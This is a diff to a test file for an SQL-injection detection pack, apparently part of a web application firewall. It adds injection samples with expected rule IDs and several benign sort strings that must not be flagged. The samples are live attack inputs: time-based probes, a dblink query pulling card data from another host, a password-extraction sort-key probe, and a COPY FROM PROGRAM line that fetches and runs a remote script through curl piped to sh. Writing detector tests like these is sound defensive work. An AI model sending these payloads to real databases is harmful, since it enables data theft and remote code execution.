@@ -45,6 +45,9 @@ describe('SQL injection pack', () => {
     ['1 /*--*/ and benchmark(5000000,md5(1))\n', 100105],
     ["1 and '#' and sleep(5)\n", 100105],
     ["1;select * into #t from sysobjects;waitfor delay '0:0:5'\n", 100106],
+    // PostgreSQL's connections to other servers and command pipes, even in a query written whole.
+    ["select * from dblink('host=10.0.4.17 port=5432 user=postgres','select card from cards') as t(n text)", 100106],
+    ["1; COPY o FROM PROGRAM 'curl -s http://198.51.100.23/a|sh'; --", 100106],
     // Comments inside keywords, read as a comment-deleting filter reads them.
     ['1 and b/**/enchmar/**/k(3000000,md5(1))', 100105],
     ['-1 uni/**/on sel/**/ect 1,2', 100101],
@@ -152,6 +155,9 @@ describe('SQL injection pack', () => {
     ["1' AND '{\"b\":\"x\"}'::json->>'b'='x", 100102, 1],
     ['(CASE WHEN (SELECT 1)=1 THEN name ELSE price END)', 100116, 1],
     ['IIF(1=1,1,0)', 100116, 1],
+    // A test as a descending sort key, and as the sort key after a number (sqlmap's ORDER BY probes).
+    ["-(SELECT CASE WHEN (SELECT substr(password,1,1) FROM nc_users LIMIT 1)='$' THEN Id ELSE Title END)", 100116, 1],
+    ['1,(select case when (1=1) then 1 else 1/0 end)', 100116, 1],
     ['1 order by (select 1)', 100112, 1],
     // A bare subquery breaks out of nothing: it counts from level 2.
     ['(select 1)', 100118, 2],
@@ -422,9 +428,12 @@ describe('SQL injection pack', () => {
     expect(ids(raw)).toEqual([]);
   });
 
-  it.each(['https://shop.example/list?page=2&sort=price', 'a=1&b=2|c', 'utm_source=news|mail'])('reads no SQL in %j', (raw) => {
-    expect(ids(raw)).toEqual([]);
-  });
+  it.each(['https://shop.example/list?page=2&sort=price', 'a=1&b=2|c', 'utm_source=news|mail', '-(price)', '1,(2)', '-created_at,title'])(
+    'reads no SQL in %j',
+    (raw) => {
+      expect(ids(raw)).toEqual([]);
+    },
+  );
 });
 
 describe('NoSQL, LDAP and XPath injection packs', () => {
